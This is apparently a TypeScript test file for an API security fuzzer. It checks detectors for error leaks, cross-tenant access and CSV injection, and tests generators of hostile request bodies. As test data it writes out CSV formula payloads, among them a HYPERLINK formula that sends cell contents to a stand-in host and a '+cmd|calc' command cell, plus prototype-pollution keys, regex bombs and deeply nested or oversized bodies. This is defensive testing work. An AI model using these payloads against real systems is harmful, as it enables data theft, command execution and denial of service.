import fc from 'fast-check';
import { z } from 'zod';
import { caseArb, type Target } from './gen';
import { applyMutation, BODY_LIMIT, clone, REGEX_BOMBS } from './hostile';
import { Raw, serialize, withKey } from './json';
import { checkAnswer, checkTenancy, formulaCellIn, OUTBOUND_MARKER } from './oracle';
import { causeOf } from './runner';
import { arbitraryOf, type JsonSchema } from './schema-arb';
import { fieldsOf, Pools } from './vocab';

const answer = (status: number, body: unknown, contentType = 'application/json; charset=utf-8') => ({ status, contentType, text: typeof body === 'string' ? body : JSON.stringify(body), ms: 1 });
const envelope = (status: number, code = 'ERROR_X', message = 'x') => ({ error: { code, message, status } });

describe('the oracle', () => {
  it('passes a 2xx and an error in the envelope', () => {
    expect(checkAnswer(answer(200, { results: [] }), 'POST')).toEqual([]);
    expect(checkAnswer(answer(400, envelope(400)), 'POST')).toEqual([]);
  });

  it('flags a 5xx, a broken envelope, a status that differs from the HTTP status, and no answer', () => {
    expect(checkAnswer(answer(500, envelope(500)), 'POST').map((p) => p.kind)).toEqual(['5xx']);
    expect(checkAnswer(answer(400, { message: 'x' }), 'POST').map((p) => p.kind)).toEqual(['envelope']);
    expect(checkAnswer(answer(404, envelope(400)), 'POST').map((p) => p.kind)).toEqual(['envelope']);
    expect(checkAnswer(answer(400, { error: { code: 1, message: 'x', status: 400 } }), 'POST').map((p) => p.kind)).toEqual(['envelope']);
    expect(checkAnswer(answer(404, 'Cannot POST /x', 'text/html'), 'POST').map((p) => p.kind)).toEqual(['envelope']);
    expect(checkAnswer({ text: '', ms: 10_000, error: 'no answer within 10000 ms' }, 'POST').map((p) => p.kind)).toEqual(['no-answer']);
  });

  it('flags an answer that says ERROR_EXTERNAL_AUTH_NOT_CONFIGURED (whether a domain has SSO, to anyone), whatever its status', () => {
    for (const status of [400, 401]) {
      expect(checkAnswer(answer(status, envelope(status, 'ERROR_EXTERNAL_AUTH_NOT_CONFIGURED')), 'POST').map((p) => p.kind)).toEqual(['disclosure']);
    }
    expect(checkAnswer(answer(401, envelope(401, 'ERROR_AUTHENTICATE_FAILURE')), 'POST')).toEqual([]);
  });

  it('flags an answer that quotes what an outbound target served (issue #32), in an error or a listed task', () => {
    const task = { results: [{ job_task_id: 't', error_code: 'ERROR_INVALID_COST_DATA', error_message: `line 2: cost "${OUTBOUND_MARKER}" is not a number` }] };
    expect(checkAnswer(answer(200, task), 'POST').map((p) => p.kind)).toEqual(['outbound-echo']);
    expect(checkAnswer(answer(400, envelope(400, 'ERROR_X', `not a Prometheus API (status ${OUTBOUND_MARKER})`)), 'POST').map((p) => p.kind)).toEqual(['outbound-echo']);
    expect(checkAnswer(answer(400, envelope(400, 'ERROR_OUTBOUND_REFUSED', 'The external endpoint could not be used.')), 'POST')).toEqual([]);
  });

  it('flags a CSV answer with a cell a spreadsheet would run as a formula (CSV injection), not a guarded one or a negative number', () => {
    const csv = (text: string) => answer(200, text, 'text/csv; charset=utf-8');
    expect(checkAnswer(csv(`name,n\r\n"'=HYPERLINK(""http://x/?""&A1,""c"")",-5\r\n'+cmd|calc,-1.5e-7\r\n"'\r=1",'-\r\n`), 'GET')).toEqual([]);
    for (const bad of ['"=HYPERLINK(""x"")"', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '"\r=1"', '-']) {
      expect(checkAnswer(csv(`a,b\r\nx,${bad}\r\n`), 'GET').map((p) => p.kind)).toEqual(['csv-formula']);
    }
    expect(formulaCellIn('a,b\r\n"x,=y",z\r\n')).toBeUndefined();
  });

  it('flags another domain\'s token succeeding on a record of the fuzz domain by id (API1), and nothing else', () => {
    const pools = new Pools();
    pools.add('inventory', 'cloud_service_id', 'cloud-svc-1');
    const target = { app: 'inventory', kind: 'operation', path: '/inventory/v1/cloud-service/get', roles: ['WORKSPACE_OWNER'], fields: [] } as unknown as Target;
    const c = (auth: object, body: unknown, path = target.path) => ({ target: { ...target, path }, method: 'POST', path, auth, body, notes: [] }) as never;
    const other = { kind: 'other-domain', role: 'WORKSPACE_OWNER' };
    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }), answer(200, {}), pools).map((p) => p.kind)).toEqual(['authz']);
    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }, '/inventory/v1/cloud-service/delete'), answer(200, {}), pools).map((p) => p.kind)).toEqual(['authz']);
    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }), answer(404, envelope(404)), pools)).toEqual([]);
    expect(checkTenancy(c({ kind: 'role', role: 'WORKSPACE_OWNER' }, { cloud_service_id: 'cloud-svc-1' }), answer(200, {}), pools)).toEqual([]);
    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-other' }), answer(200, {}), pools)).toEqual([]);
    expect(checkTenancy(c(other, { cloud_service_id: 'cloud-svc-1' }, '/inventory/v1/cloud-service/list'), answer(200, {}), pools)).toEqual([]);
  });

  it('flags stack traces, SQL and database error texts in a body', () => {
    const leaks = [
      'TypeError: x is not a function\n    at Foo.bar (/app/dist/main.js:10:5)',
      'at Object.<anonymous> (file.js:1:2)',
      'see /app/node_modules/pg/lib/client.js',
      'SELECT * FROM cloud_service WHERE domain_id = $1',
      'syntax error at or near "FROM"',
      'invalid input syntax for type integer: "1e400"',
      'invalid byte sequence for encoding "UTF8": 0x00',
      'column "x" does not exist',
      'could not determine data type of parameter $7',
      'Invalid `prisma.storage.findUnique()` invocation',
    ];
    for (const message of leaks) expect([message, checkAnswer(answer(400, envelope(400, 'ERROR_X', message)), 'POST').map((p) => p.kind)]).toEqual([message, ['leak']]);
    // A stored record may hold anything a caller wrote; a successful answer is checked for stack frames only.
    expect(checkAnswer(answer(200, { name: 'SELECT 1 FROM x' }), 'POST')).toEqual([]);
    expect(checkAnswer(answer(200, { error: 'at f (/srv/a.js:1:2)' }), 'POST').map((p) => p.kind)).toEqual(['leak']);
  });

  it('names the error an app printed, with its first frame in the project', () => {
    const line = JSON.stringify({ level: 'error', err: { type: 'RangeError', message: 'Maximum call stack size exceeded', stack: 'RangeError: Maximum…\n    at JSON.stringify (<anonymous>)\n    at X.update (/w/apps/inventory/src/cloud-service/service.ts:199:111)' } });
    expect(causeOf(`${line}\n`)).toBe('RangeError: Maximum call stack size exceeded @ apps/inventory/src/cloud-service/service.ts:199');
    expect(causeOf('/w/node_modules/prom-client/lib/validation.js:20\nError: Added label "x" is not included\n    at validateLabel (/w/node_modules/prom-client/lib/validation.js:20:10)\n    at f (/w/libs/http/src/app.ts:150:7)')).toBe(
      'Error: Added label "x" is not included @ libs/http/src/app.ts:150',
    );
  });
});

describe('bodies', () => {
  it('writes own __proto__ keys, -0 and Raw nodes verbatim', () => {
    const body = withKey({ a: 1 }, '__proto__', { x: 1 });
    expect(serialize({ q: body, n: -0, deep: Raw.text('[[1]]'), big: Raw.text('1e400') }).toString()).toBe('{"q":{"a":1,"__proto__":{"x":1}},"n":-0,"deep":[[1]],"big":1e400}');
    expect(JSON.parse(serialize(body).toString())).toHaveProperty('__proto__', { x: 1 });
    expect(Object.prototype).not.toHaveProperty('x');
  });

  it('copies keep own prototype keys', () => {
    const c = clone({ a: [withKey({}, '__proto__', 1)] });
    expect(Object.keys(c.a[0])).toEqual(['__proto__']);
  });
});

describe('mutations', () => {
  const fields = fieldsOf('/inventory/v1/cloud-service/list');
  const base = () => ({ domain_id: 'd', query: { filter: [{ key: 'name', value: 'x', operator: 'eq' }], only: ['name'] } });

  it('puts a prototype key at the chosen depth as an own key', () => {
    for (let at = 0; at < 4; at++) {
      const { body } = applyMutation(base(), { kind: 'proto-key', at, n: 0 }, fields);
      expect(serialize(body).toString()).toContain('"__proto__":{"x":1}');
    }
  });

  it('turns a condition into a regex bomb', () => {
    const { body } = applyMutation(base(), { kind: 'regex-bomb', at: 0, n: 1 }, fields) as { body: { query: { filter: { operator: string; value: string }[] } } };
    expect(body.query.filter[0]).toMatchObject({ operator: 'regex', value: REGEX_BOMBS[1] });
  });

  it('nests 50,000 levels and pads a body to just past the limit', () => {
    const deep = applyMutation(base(), { kind: 'deep', at: 1, n: 3 }, fields);
    expect(serialize(deep.body).toString()).toContain('['.repeat(50_000));
    const padded = applyMutation(base(), { kind: 'pad-to-limit', at: 0, n: 2 }, fields);
    expect(serialize(padded.body).length).toBe(BODY_LIMIT + 1);
  });
  it("renames a key to protobuf's JSON name, or sends both spellings", () => {
    const renamed = applyMutation(base(), { kind: 'camel-key', at: 0, n: 1 }, fields);
    expect(Object.keys(renamed.body as object)).toEqual(['domainId', 'query']);
    const both = applyMutation(base(), { kind: 'camel-key', at: 0, n: 3 }, fields);
    expect(Object.keys(both.body as object)).toEqual(['domain_id', 'query', 'domainId']);
  });
});

describe('the schema generator', () => {
  it('generates values the zod schema behind the JSON Schema accepts', () => {
    const schema = z.strictObject({
      name: z.string().min(1).max(20),
      kind: z.enum(['A', 'B']),
      size: z.number().int().min(1).max(10).optional(),
      tags: z.record(z.string(), z.unknown()).optional(),
      list: z.array(z.union([z.string(), z.object({ k: z.string() })])).max(3).nullish(),
    });
    const json = z.toJSONSchema(schema, { io: 'input' }) as JsonSchema;
    fc.assert(fc.property(arbitraryOf(json, json, () => undefined), (v) => schema.safeParse(v).success));
  });

  it('generates strings at any bounds, an empty-only string included (it once looped for ever)', () => {
    for (const schema of [z.string().max(0), z.string().length(12), z.string().min(13).max(30), z.string().min(1).max(1)]) {
      const json = z.toJSONSchema(z.strictObject({ s: schema }), { io: 'input' }) as JsonSchema;
      const values = fc.sample(arbitraryOf(json, json, () => undefined), { seed: 2, numRuns: 50 });
      expect(values.every((v) => z.strictObject({ s: schema }).safeParse(v).success)).toBe(true);
    }
  });

  it('makes cases for an operation: most with a role allowed to call it, some hostile', () => {
    const schema = z.toJSONSchema(z.strictObject({ query: z.object({ filter: z.array(z.object({ key: z.string(), value: z.unknown(), operator: z.string() })).nullish() }) }), { io: 'input' }) as JsonSchema;
    const t: Target = { app: 'inventory', kind: 'operation', path: '/inventory/v1/cloud-service/list', schema, roles: ['WORKSPACE_OWNER'], fields: fieldsOf('/inventory/v1/cloud-service/list') };
    const cases = fc.sample(caseArb(t, { pools: new Pools(), csvUrl: 'http://127.0.0.1:1/x.csv' }), { seed: 1, numRuns: 300 });
    expect(cases.filter((c) => c.auth.kind === 'role').length).toBeGreaterThan(200);
    expect(cases.filter((c) => c.notes.length).length).toBeGreaterThan(150);
    expect(cases.some((c) => /__proto__/.test(serialize(c.body ?? {}).toString()))).toBe(true);
  });
});
